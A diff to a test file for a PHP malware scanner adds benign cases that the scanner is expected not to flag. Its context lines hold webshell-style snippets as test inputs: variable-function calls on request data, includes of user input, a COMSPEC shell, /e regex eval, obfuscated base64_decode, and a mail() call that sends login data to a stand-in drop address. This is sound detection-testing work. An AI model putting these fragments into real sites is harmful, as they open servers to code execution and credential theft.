@@ -136,6 +136,7 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_INPUT_ExtractAndCall", php("@extract ($_REQUEST); @die ($a($b));"), True),
     ("SPAMGEAR_INPUT_TinyIncludeOfInputVar", php("$f = $_GET['p']; include($f);"), True),
     ("SPAMGEAR_INPUT_TinyIncludeOfInputVar", php("$f = $_GET['p']; include('header.php');"), False),
+    ("SPAMGEAR_INPUT_TinyIncludeOfInputVar", php("$f = basename($_GET['p']) . '.php'; include $f;"), False),
     ("SPAMGEAR_INPUT_ComspecShell", php("$p = proc_open($_SERVER['COMSPEC'], $d, $pipes);"), True),
     ("SPAMGEAR_INPUT_ComspecShell", php("$shell = $_SERVER['COMSPEC'];"), False),
     ("SPAMGEAR_INPUT_PregReplaceEvalPattern", php("preg_replace('/x/e', $code, 'x');"), True),
@@ -197,6 +198,13 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     ("SPAMGEAR_OBFUSC_ReversedSinkStrong", php("$f = strrev('edoced_46esab');"), True),
     ("SPAMGEAR_OBFUSC_ReversedSinkStrong", php("$f = strrev('edoced');"), False),
+    (
+        "SPAMGEAR_OBFUSC_PasteSiteDropper",
+        php(
+            "file_put_contents('l.json', file_get_contents('https://raw.githubusercontent.com/o/r/main/l.json'));"
+        ),
+        False,
+    ),
     ("SPAMGEAR_OBFUSC_ReversedSinkStrong", php("$n = strrev('TSOP_'); $v = $$n;"), True),
     ("SPAMGEAR_OBFUSC_SplitSuperglobal", php('$v = ${"_P"."OST"}[\'x\'];'), True),
     ("SPAMGEAR_OBFUSC_SplitSuperglobal", php("$v = ${\"_POST\"}['x'];"), False),
@@ -562,6 +570,14 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_MAILER_CredentialExfil",
         php("$m = $_POST['email'] . $_SERVER['REMOTE_ADDR']; mail('drop@example.invalid', 'l', $m);"),
+        False,
+    ),
+    (
+        "SPAMGEAR_MAILER_CredentialExfil",
+        php(
+            "if (password_verify($_POST['password'], $h)) { mail($to, 'login', $_POST['email'] . ' from '"
+            " . $_SERVER['REMOTE_ADDR']); }"
+        ),
         False,
     ),
     (
